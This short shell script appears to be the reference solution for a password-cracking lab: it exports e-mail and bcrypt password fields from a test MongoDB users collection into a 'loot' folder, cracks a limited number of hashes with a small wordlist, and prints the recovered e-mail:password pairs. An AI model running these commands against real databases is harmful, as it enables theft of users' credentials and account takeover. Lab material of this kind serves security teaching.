# Reference solution for the cracking lab: export the hashes, crack them with the tiny list,
# keep the e-mail:password pairs. bcrypt is slow on purpose, so only the first accounts are
# attacked: a few percent of them chose a listed password, enough to prove the point.
mkdir -p loot
mongoexport --uri mongodb://db.cloudpets.test:27017 --db cloudpets --collection users --fields email,password --out loot/hashes.jsonl --quiet
crack --hashes loot/hashes.jsonl --field password --limit-hashes ${CRACK_LIMIT:-120} --quiet --out cracked.txt || true
cat cracked.txt
